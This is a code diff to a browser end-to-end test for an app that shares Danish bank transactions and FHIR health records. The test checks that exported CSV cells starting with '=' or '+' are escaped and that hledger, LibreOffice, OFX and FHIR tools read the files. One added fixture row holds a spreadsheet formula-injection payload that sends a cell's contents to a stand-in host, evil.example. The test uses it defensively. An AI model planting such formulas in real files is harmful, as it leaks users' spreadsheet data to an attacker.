@@ -19,6 +19,7 @@ import { afterAll, describe, expect, it } from 'vitest';
 import { generateIdentity, openBundle } from '../../src/bundle/index';
 import { parseFhir } from '../../src/importers/health/fhir/parse';
 import { da as RECEIVER_DA } from '../../src/receiver-page/i18n/da';
+import { fhirJsComplaints, fhirSchemaErrors, HLEDGER_RULES, hledgerRead, libreofficeRead, ofxdumpRead, ofxparseRead, withFiles } from '../unit/support/stock-tools';
 import { chromiumPath, type ChromiumSession } from './harness/chromium';
 import { addNote, chromiumForThisFile, createVault, DA, keepPagesOnFailure, screenshotPath, text, expectAccessible } from './harness/vault-ui';
 
@@ -178,7 +179,8 @@ describe('sharing in Chromium', () => {
   });
 
   it('shares chosen bank transactions: the approval names the CSV and OFX copies, the receiver page offers them with the same amounts', async () => {
-    // Three rows from last month, as Danske Bank exports them (Windows-1252, ; and decimal comma).
+    // Rows from last month, as Danske Bank exports them (Windows-1252, ; and decimal comma), with
+    // texts a third party wrote (a formula, a MobilePay message), over a million and a zero.
     const now = new Date();
     const month = new Date(Date.UTC(now.getUTCFullYear(), now.getUTCMonth() - 1, 1));
     const day = (d: number) => `${String(d).padStart(2, '0')}.${String(month.getUTCMonth() + 1).padStart(2, '0')}.${month.getUTCFullYear()}`;
@@ -187,8 +189,10 @@ describe('sharing in Chromium', () => {
       { d: 4, text: 'Føtex Vesterbro', amount: '-845,50', ore: -84_550 },
       { d: 9, text: 'Løn og kontanthjælp', amount: '11.800,00', ore: 1_180_000 },
       { d: 17, text: 'Netto Østerbro', amount: '-612,25', ore: -61_225 },
+      { d: 18, text: '=HYPERLINK("https://evil.example/?"&A1;"Klik")', amount: '-0,00', ore: 0 },
+      { d: 19, text: '+45 MobilePay fra Søren; "tak"', amount: '1.250.000,00', ore: 125_000_000 },
     ];
-    const csv = ['"Dato";"Tekst";"Beløb";"Saldo";"Status";"Afstemt"', ...ROWS.map((r, i) => `"${day(r.d)}";"${r.text}";"${r.amount}";"${20_000 + i},00";"Udført";"Nej"`)].join('\r\n');
+    const csv = ['"Dato";"Tekst";"Beløb";"Saldo";"Status";"Afstemt"', ...ROWS.map((r, i) => `"${day(r.d)}";"${r.text.replace(/"/g, '""')}";"${r.amount}";"${20_000 + i},00";"Udført";"Nej"`)].join('\r\n');
     await page.getByRole('navigation', { name: DA['header.sections'] }).getByRole('button', { name: DA['section.money'] }).click();
     await page.getByLabel(DA['money.import.fileLabel']).setInputFiles({ name: 'danske-bank.csv', mimeType: 'text/csv', buffer: Buffer.from(`${csv}\r\n`, 'latin1') });
     await page.getByRole('heading', { name: DA['money.preview.heading'] }).waitFor({ timeout: 60_000 });
@@ -209,7 +213,7 @@ describe('sharing in Chromium', () => {
 
     // The approval names the copies as well as the rows.
     await page.getByRole('heading', { level: 3, name: DA['sharing.wizard.approve'] }).waitFor();
-    await page.locator('ul.approval-items li').filter({ hasText: /^3 posteringer/ }).waitFor();
+    await page.locator('ul.approval-items li').filter({ hasText: new RegExp(`^${ROWS.length} posteringer`) }).waitFor();
     await expect.poll(() => page.locator('ul.approval-copies li').allTextContents()).toEqual([
       text(DA, 'sharing.copy.csv', { name: 'transactions.csv' }),
       text(DA, 'sharing.copy.ofx', { name: 'transactions.ofx' }),
@@ -217,7 +221,7 @@ describe('sharing in Chromium', () => {
     await expectAccessible(page, 'wizard: approval with copies');
     const { file, opened } = await approveDownloadAndOpen(page, 'tx-');
     const rows = (opened.data.transactions as { rows: { date: string; amountMinor: number; text: string }[] }[])[0]!.rows;
-    expect(rows).toEqual(ROWS.map((r) => ({ date: iso(r.d), amountMinor: r.ore, currency: 'DKK', text: r.text })));
+    expect(rows.map((r) => ({ ...r, amountMinor: r.amountMinor + 0 }))).toEqual(ROWS.map((r) => ({ date: iso(r.d), amountMinor: r.ore, currency: 'DKK', text: r.text })));
 
     // The receiver page, in a plain browser: the copies are listed and come back byte for byte.
     plain = await chromium.launch({ executablePath: chromiumPath(), headless: true, args: ['--headless=new', '--no-sandbox', '--disable-gpu'] });
@@ -233,9 +237,22 @@ describe('sharing in Chromium', () => {
       if (name === 'transactions.csv') {
         expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
         const parsed = Papa.parse<Record<string, string>>(bytes.toString('utf8').slice(1).trim(), { header: true, delimiter: ';' });
-        expect(parsed.data.map((r) => [r.date, r.amount, r.text])).toEqual(ROWS.map((r) => [iso(r.d), (r.ore / 100).toFixed(2).replace('.', ','), r.text]));
+        // A text a spreadsheet would take for a formula is marked as text; the exact one is in data.json.
+        expect(parsed.data.map((r) => [r.date, r.amount, r.text])).toEqual(ROWS.map((r) => [iso(r.d), (r.ore / 100).toFixed(2).replace('.', ','), /^[=+]/.test(r.text) ? `'${r.text}` : r.text]));
+        // The tools receivers use read the downloaded file: hledger with a rules file, LibreOffice with the Danish filter.
+        const ledger = withFiles({ 't.csv': bytes, 't.rules': HLEDGER_RULES }, (dir) => hledgerRead(join(dir, 't.csv'), join(dir, 't.rules')));
+        expect([ledger.status, ledger.stderr]).toEqual([0, '']);
+        expect(ledger.rows.map((r) => r.ore)).toEqual(ROWS.map((r) => r.ore));
+        const sheet = withFiles({ 't.csv': bytes }, (dir) => libreofficeRead(join(dir, 't.csv'))).slice(1);
+        expect(sheet.flat().filter((c) => c.formula !== null)).toEqual([]);
+        expect(sheet.map((r) => [r[0]!.type, r[2]!.type, Math.round(Number(r[2]!.value) * 100)])).toEqual(ROWS.map((r) => ['date', 'float', r.ore]));
       } else {
         expect(bytes.toString('utf8').match(/<TRNAMT>[^<]+<\/TRNAMT>/g)).toEqual(ROWS.map((r) => `<TRNAMT>${(r.ore / 100).toFixed(2)}</TRNAMT>`));
+        // python3-ofxparse and libofx's ofxdump read every row with its exact text.
+        const [parsed, dumped] = withFiles({ 't.ofx': bytes }, (dir) => [ofxparseRead(join(dir, 't.ofx')), ofxdumpRead(join(dir, 't.ofx'))] as const);
+        expect(parsed.map((t) => [t.memo, Math.round(Number(t.amount) * 100)])).toEqual(ROWS.map((r) => [r.text, r.ore]));
+        expect([dumped.status, dumped.complaints]).toEqual([0, []]);
+        expect(dumped.rows.map((t) => t.memo)).toEqual(ROWS.map((r) => r.text));
       }
     }
     await receiver.screenshot({ path: screenshotPath('sharing-receiver-transactions-da'), fullPage: true });
@@ -294,6 +311,10 @@ describe('sharing in Chromium', () => {
     expect(got.suggestedFilename()).toBe('health.fhir.json');
     const bytes = readFileSync((await got.path())!);
     expect(new Uint8Array(bytes)).toEqual(opened.files.find((f) => f.path === 'files/health.fhir.json')!.bytes);
+    // The official FHIR R4 JSON schema and FHIR.js accept the downloaded file.
+    const downloaded = JSON.parse(bytes.toString('utf8')) as Record<string, unknown>;
+    expect(fhirSchemaErrors(downloaded)).toEqual([]);
+    expect(fhirJsComplaints(downloaded)).toEqual({ valid: true, complaints: [] });
     const back = parseFhir(bytes.toString('utf8'));
     expect(back.issues).toEqual([]);
     expect(back.clinical.map((c) => [c.resourceType, c.title])).toEqual(entry!.clinical.map((c) => [c.resourceType, c.title]));
